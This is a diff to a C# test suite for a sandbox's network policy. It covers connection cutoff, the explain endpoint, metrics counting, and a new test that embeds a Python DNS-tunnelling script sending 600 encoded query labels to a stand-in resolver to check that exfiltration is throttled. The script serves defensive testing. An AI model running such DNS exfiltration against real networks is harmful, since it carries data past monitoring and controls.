@@ -1,4 +1,7 @@
+using System.Collections.Concurrent;
 using System.Diagnostics;
+using System.Diagnostics.Metrics;
+using System.Globalization;
 using System.Net;
 using System.Net.Http.Json;
 using System.Text.Json;
@@ -39,13 +42,18 @@ public sealed class NetworkChanges(NetworkFixture network) : IClassFixture<Netwo
     }
 
     [Theory]
-    [InlineData(false)]
-    [InlineData(true)]
-    public async Task New_rules_cut_open_connections_within_a_second(bool byName)
+    [InlineData("")]
+    [InlineData("{public}")]
+    [InlineData("198.51.100.0/24")]
+    [InlineData("talk.test")]
+    [InlineData("*.test")]
+    public async Task New_rules_cut_open_connections_within_a_second(string allowed)
     {
         network.Dns["talk.test"] = [network.World.Public];
-        await using var sandbox = byName ? await network.CreateAsync(allow: ["talk.test"]) : await network.CreateAsync();
-        await using var talk = await sandbox.Commands.StartAsync($"{Talk} {(byName ? "talk.test" : network.World.Public)}", cancellationToken: Cancel);
+        await using var sandbox = allowed.Length == 0
+            ? await network.CreateAsync()
+            : await network.CreateAsync(allow: [allowed.Replace("{public}", $"{network.World.Public}", StringComparison.Ordinal)]);
+        await using var talk = await sandbox.Commands.StartAsync($"{Talk} {(allowed.EndsWith("test", StringComparison.Ordinal) ? "talk.test" : network.World.Public)}", cancellationToken: Cancel);
         await using var output = talk.EventsAsync(Cancel).GetAsyncEnumerator(Cancel);
         Assert.True(await output.MoveNextAsync());
 
@@ -80,9 +88,9 @@ public sealed class NetworkChanges(NetworkFixture network) : IClassFixture<Netwo
         network.Dns["inside.test"] = [network.World.Private];
         await using var sandbox = await network.CreateAsync(allow: ["told.test", "inside.test"]);
         await NetworkFixture.TryAsync(sandbox, "name told.test", "name other.test", "name inside.test", $"tcp {World.Metadata} 80");
-        using var api = new HttpClient { BaseAddress = network.Server.HttpUrl, DefaultRequestHeaders = { { "X-API-Key", network.Server.ApiKey } } };
+        using var api = Api();
 
-        var report = await api.GetFromJsonAsync<JsonElement>($"/sandboxes/{sandbox.SandboxId}/network", Cancel);
+        var report = await ReportAsync(api, sandbox);
         var decisions = report.GetProperty("decisions").EnumerateArray()
             .Select(decision => $"{decision.GetProperty("source")} {decision.GetProperty("target")} {decision.GetProperty("allowed")}").ToList();
 
@@ -96,10 +104,55 @@ public sealed class NetworkChanges(NetworkFixture network) : IClassFixture<Netwo
         Assert.Contains("no rule allows the name", await ExplainAsync("other.test"), StringComparison.Ordinal);
         Assert.Contains("a private network", await ExplainAsync("inside.test"), StringComparison.Ordinal);
         Assert.Contains("metadata service", await ExplainAsync($"{World.Metadata}"), StringComparison.Ordinal);
+        Assert.Contains("no rule opens", await ExplainAsync("100.100.100.200"), StringComparison.Ordinal);
         Assert.Contains("by an allowed name alone", await ExplainAsync($"{network.World.Public}"), StringComparison.Ordinal);
 
         async Task<string> ExplainAsync(string host) =>
             (await api.GetFromJsonAsync<JsonElement>($"/sandboxes/{sandbox.SandboxId}/network/explain?host={host}", Cancel)).GetProperty("reason").GetString()!;
+    }
+
+    [Fact]
+    public async Task Names_that_carry_data_out_are_few_and_told()
+    {
+        await using var sandbox = await network.CreateAsync();
+        const string Leak =
+            """
+            import os, socket, time
+            begun, codes = time.time(), []
+            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+            for i in range(600):
+                label = os.urandom(31).hex().encode()
+                s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0\x3e" + label + b"\x04leak\x04test\0\0\x10\0\1", ("203.0.113.251", 53)); codes.append(s.recv(512)[3] & 15)
+            print(codes.count(5), time.time() - begun)
+            """;
+
+        var said = (await sandbox.Commands.RunAsync($"python3 -c '{Leak}'", cancellationToken: Cancel)).Stdout.Split(' ');
+        using var api = Api();
+        var report = await ReportAsync(api, sandbox);
+
+        var passed = network.Dns.Questions.Count(name => name.EndsWith(".leak.test", StringComparison.Ordinal));
+        Assert.InRange(passed, 1, 200 + 50 * (1 + double.Parse(said[1], CultureInfo.InvariantCulture)));
+        Assert.Equal(600 - passed, int.Parse(said[0], CultureInfo.InvariantCulture));
+        Assert.Contains(report.GetProperty("decisions").EnumerateArray(), decision => decision.GetProperty("reason").GetString() == "it asks too many questions");
+    }
+
+    [Fact]
+    public async Task Decisions_are_counted_by_who_made_them()
+    {
+        var counted = new ConcurrentDictionary<string, long>();
+        using var listener = new MeterListener();
+        listener.InstrumentPublished = (instrument, it) => { if (instrument.Name == "moru.network.decisions") it.EnableMeasurementEvents(instrument); };
+        listener.SetMeasurementEventCallback<long>((_, count, tags, _) => counted.AddOrUpdate($"{tags[0].Value} {tags[1].Value}", count, (_, before) => before + count));
+        listener.Start();
+        network.Dns["counted.test"] = [network.World.OtherPublic];
+        await using var sandbox = await network.CreateAsync(allow: ["counted.test", $"{network.World.Public}"]);
+
+        await NetworkFixture.TryAsync(sandbox, "name counted.test", "name other.test", $"udp {network.World.ThirdPublic} 5000", $"tcp {network.World.ThirdPublic} 80");
+        await sandbox.Commands.RunAsync("curl -s http://counted.test/", cancellationToken: Cancel);
+
+        string[] all = ["name_proxy allowed", "name_proxy refused", "packet_filter refused", "resolver allowed", "resolver refused"];
+        await Eventually.TrueAsync(() => all.All(counted.ContainsKey));
+        Assert.Equal(all, counted.Keys.Order());
     }
 
     [Fact]
@@ -113,4 +166,8 @@ public sealed class NetworkChanges(NetworkFixture network) : IClassFixture<Netwo
         Assert.Equal(["open"], await NetworkFixture.TryAsync(sandbox, $"tcp {network.World.Public} 80"));
         await Assert.ThrowsAsync<NotFoundException>(() => network.Client.SetSandboxNetworkAsync("inosuchsandbox", denyOut: Everything, cancellationToken: Cancel));
     }
+
+    private HttpClient Api() => new() { BaseAddress = network.Server.HttpUrl, DefaultRequestHeaders = { { "X-API-Key", network.Server.ApiKey } } };
+
+    private static Task<JsonElement> ReportAsync(HttpClient api, Sandbox sandbox) => api.GetFromJsonAsync<JsonElement>($"/sandboxes/{sandbox.SandboxId}/network", Cancel);
 }
